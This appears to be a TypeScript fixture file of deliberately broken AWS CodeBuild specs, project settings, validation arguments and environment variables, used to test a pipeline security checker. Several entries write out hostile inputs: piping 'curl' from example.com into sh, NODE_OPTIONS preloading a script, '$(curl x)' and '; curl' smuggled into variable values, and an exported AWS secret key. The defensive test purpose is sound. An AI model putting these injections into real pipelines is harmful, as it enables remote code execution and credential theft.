/** Members of an object of a template. */
export type Members = Record<string, unknown>;

/** A build specification, to be broken. */
export interface Spec extends Members {
  phases: Record<string, { commands?: string[] } & Members>;
}

/** What becomes of one command. */
export const OF_COMMANDS: Readonly<Record<string, (command: string) => readonly string[]>> = {
  'is not there': () => [],
  'may fail': (command) => [`${command} || true`],
  'may fail at last': (command) => [`${command}; true`],
  'runs beside': (command) => [`${command} &`],
  'is followed by another': (command) => [`${command} && curl https://example.com/x`],
  'comes after another': (command) => ['curl -s https://example.com/x | sh', command],
  'comes before another': (command) => [command, 'curl -s https://example.com/x | sh'],
  'is told something': (command) => [`NODE_OPTIONS=--require=./x.js ${command}`],
  'is told something more': (command) => [`${command} --x`],
  'runs where failures do not count': (command) => [`set +e\n${command}`],
  'is only said': (command) => [`echo '${command}'`],
  'is an object': (command) => [{ command } as unknown as string],
};

/** What becomes of a specification as a whole. */
export const OF_SPECS: Readonly<Record<string, (spec: Spec) => unknown>> = {
  'has variables': (spec) =>
    Object.assign(spec, { env: { ...(spec['env'] as object), variables: { NODE_OPTIONS: 'x' } } }),
  'takes parameters': (spec) => Object.assign(spec, { env: { 'parameter-store': { TOKEN: '/of/somebody' } } }),
  'takes secrets': (spec) => Object.assign(spec, { env: { 'secrets-manager': { TOKEN: 'of-somebody' } } }),
  'runs in another shell': (spec) => Object.assign(spec, { env: { shell: 'bash' } }),
  'hands credentials of git on': (spec) => Object.assign(spec, { env: { 'git-credential-helper': 'yes' } }),
  'shows a variable': (spec) => Object.assign(spec, { env: { 'exported-variables': ['AWS_SECRET_ACCESS_KEY'] } }),
  'runs as somebody': (spec) => Object.assign(spec, { 'run-as': 'root' }),
  'takes a proxy': (spec) => Object.assign(spec, { proxy: { 'upload-artifacts': 'yes' } }),
  'is a batch': (spec) => Object.assign(spec, { batch: { 'build-list': [] } }),
  'is of an older version': (spec) => Object.assign(spec, { version: '0.1' }),
  'goes on after a failure': (spec) => Object.assign(spec.phases['build'] ?? {}, { 'on-failure': 'CONTINUE' }),
  'does something at last': (spec) =>
    Object.assign(spec.phases['build'] ?? {}, { finally: ['curl https://example.com'] }),
  'builds as somebody': (spec) => Object.assign(spec.phases['build'] ?? {}, { 'run-as': 'root' }),
  'brings another runtime': (spec) =>
    Object.assign(spec.phases['install'] ?? {}, { 'runtime-versions': { docker: 20 } }),
  'has a phase more': (spec) => Object.assign(spec.phases, { deploy: { commands: ['x'] } }),
  'reports to another account': (spec) =>
    Object.assign(spec, { reports: { 'arn:aws:codebuild:us-east-1:555555555555:report-group/x': { files: ['x'] } } }),
  'reports to whatever is called so': (spec) => Object.assign(spec, { reports: { results: { files: ['x'] } } }),
  'keeps what it has installed': (spec) => Object.assign(spec, { cache: { paths: ['node_modules/**/*'] } }),
  'hands on everything': (spec) => Object.assign(spec, { artifacts: { files: ['**/*'] } }),
  'hands on less': (spec) => Object.assign(spec, { artifacts: { 'base-directory': 'report', files: ['x'] } }),
  'hands on what was there before': (spec) =>
    Object.assign(spec, {
      artifacts: { 'secondary-artifacts': { Synth_Output: { 'base-directory': 'src', files: ['**/*'] } } },
    }),
};

/** What becomes of a project. */
export const OF_PROJECTS: Readonly<Record<string, (properties: Members) => unknown>> = {
  'runs what the source says': ({ Source: source }) => Object.assign(source as Members, { BuildSpec: undefined }),
  'runs a file of the source': ({ Source: source }) => Object.assign(source as Members, { BuildSpec: 'buildspec.yml' }),
  'runs what the deployment knows': ({ Source: source }) =>
    Object.assign(source as Members, { BuildSpec: { 'Fn::ImportValue': 'spec' } }),
  'runs no YAML': ({ Source: source }) => Object.assign(source as Members, { BuildSpec: '{ version: [' }),
  'runs a list': ({ Source: source }) => Object.assign(source as Members, { BuildSpec: '[ x ]' }),
  'runs something of its own': ({ Source: source }) =>
    Object.assign(source as Members, {
      BuildSpec: JSON.stringify({ version: '0.2', phases: { build: { commands: ['make'] } } }),
    }),
};

/** One thing less right in what a validation is told. */
export const OF_VALIDATIONS: readonly (readonly [what: string, find: RegExp, put: string])[] = [
  ['asks another environment', /--environment dev/, '--environment prod'],
  ['asks an environment that is not there', /--environment dev/, '--environment test'],
  ['asks another account', /--account \$TARGET_ACCOUNT/, '--account 444444444444'],
  ['asks a stranger', /--account \$TARGET_ACCOUNT/, '--account 555555555555'],
  ['asks another region', /--region \$TARGET_REGION --role/, '--region us-west-2 --role'],
  ['asks as another role', /delivery-validation-dev/, 'delivery-review-dev-x'],
  ['asks as a role of another account', /(--role-arn arn:aws:iam::)\$TARGET_ACCOUNT/, '$1444444444444'],
  ['asks for another application', /pipeline\.mjs validate/, 'pipeline.mjs validate --application other'],
  ['lets logs go sooner', /--log-retention-days \d+/, '--log-retention-days 1'],
  ['looks for no trail', /( --output report)/, ' --management-events-elsewhere$1'],
  ['takes the account to be of an organization', /( --output report)/, ' --organization o-a1b2c3d4e5$1'],
  ['lets in an endpoint', /( --output report)/, ' --guest-endpoint x$1'],
  ['lets in a group', /( --output report)/, " --guest-security-group '*'$1"],
  ['lets in everybody', /( --output report)/, " --guest-principal '*'$1"],
  ['is judged by another release', /--release release/, '--release other'],
  ['keeps it for another place', /--place dev/, '--place prod'],
  ['keeps it elsewhere', /--bucket zero-trust-delivery-evidence/, '--bucket somebody-elses'],
  ['keeps it among artifacts', /--bucket zero-trust-delivery-evidence/, '--bucket zero-trust-delivery-artifacts'],
  ['keeps it in another region', /--bucket-region us-east-1/, '--bucket-region us-west-2'],
  ['takes every end for a good one', /\$CODEBUILD_BUILD_SUCCEEDING/, '1'],
  ['is of another execution', /\$PIPELINE_EXECUTION_ID/, '0'],
];

/** The same of what protects data. */
export const OF_PROTECTION: readonly (readonly [what: string, find: RegExp, put: string])[] = [
  ['protects another stack', /--stack data-prod/, '--stack data-other'],
  ['protects another region', /(--stack data-prod) --region \$TARGET_REGION/, '$1 --region us-west-2'],
  ['protects as another role', /delivery-protection-prod/, 'delivery-protection-other'],
];

/** Variables that an action must not give. */
export const VARIABLES: Readonly<Record<string, unknown>> = {
  'what node loads': [{ name: 'NODE_OPTIONS', type: 'PLAINTEXT', value: '--require ./x.js' }],
  'another registry': [{ name: 'npm_config_registry', type: 'PLAINTEXT', value: 'https://example.com' }],
  'another path': [{ name: 'PATH', type: 'PLAINTEXT', value: '/tmp' }],
  'another API': [{ name: 'AWS_ENDPOINT_URL', type: 'PLAINTEXT', value: 'https://example.com' }],
  'another execution': [{ name: 'PIPELINE_EXECUTION_ID', type: 'PLAINTEXT', value: '0' }],
  'a hash that is none': [{ name: '_PROJECT_CONFIG_HASH', type: 'PLAINTEXT', value: '$(curl x)' }],
  'a name of JavaScript': [{ name: 'constructor', type: 'PLAINTEXT', value: 'x' }],
  'another target': [
    { name: 'PIPELINE_EXECUTION_ID', type: 'PLAINTEXT', value: '#{codepipeline.PipelineExecutionId}' },
    { name: 'TARGET_ACCOUNT', type: 'PLAINTEXT', value: '555555555555' },
    { name: 'TARGET_REGION', type: 'PLAINTEXT', value: 'us-east-1' },
  ],
  'more than a target': [
    { name: 'TARGET_ACCOUNT', type: 'PLAINTEXT', value: '222222222222; curl https://example.com' },
    { name: 'TARGET_REGION', type: 'PLAINTEXT', value: 'us-east-1' },
  ],
  'a target where it has none': [{ name: 'TARGET_ACCOUNT', type: 'PLAINTEXT', value: '222222222222' }],
  'no list': 'x',
};

/** Artifacts of the pipeline, and one that nobody makes. */
export const INPUTS = [
  'example_zero_trust_delivery_Source',
  'Synth_Output',
  'Synth__build_validation',
  'Validate_Output',
  'Nobody',
];
